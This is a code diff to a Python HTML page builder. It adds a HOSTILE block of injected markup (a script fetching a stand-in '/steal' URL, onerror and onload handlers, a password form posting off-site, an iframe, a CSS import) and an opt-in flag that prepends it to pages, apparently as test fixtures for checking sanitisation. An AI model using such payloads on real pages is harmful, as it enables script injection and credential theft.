@@ -14,9 +14,18 @@ STYLE = "body{font-family:'Times New Roman',serif;max-width:52em;margin:auto}.c{
 CENTRED = frozenset({"title", "authority", "order", "chapter", "annex"})
 
 
-def build_html(blocks: Iterable[Block], title: str) -> bytes:
-    """Return a complete UTF-8 page; nothing in it runs or loads."""
-    body = "\n".join(_to_html(block) for block in blocks)
+HOSTILE = """<script>document.title = "chạy được"; fetch("https://example.invalid/steal")</script>
+<img src="https://example.invalid/pixel.png" onerror="alert(1)" alt="">
+<iframe src="https://example.invalid/"></iframe>
+<form action="https://example.invalid/"><input name="password"></form>
+<style>@import url("https://example.invalid/a.css"); body { display: none }</style>
+<svg onload="alert(2)"><text>svg</text></svg>
+"""
+
+
+def build_html(blocks: Iterable[Block], title: str, *, hostile: bool = False) -> bytes:
+    """Return a complete UTF-8 page; nothing in it runs or loads, unless it is made ``hostile`` on purpose."""
+    body = (HOSTILE if hostile else "") + "\n".join(_to_html(block) for block in blocks)
     page = (
         '<!DOCTYPE html>\n<html lang="vi">\n<head>\n<meta charset="utf-8">\n'
         f"<title>{escape(title)}</title>\n<style>{STYLE}</style>\n</head>\n<body>\n{body}\n</body>\n</html>\n"
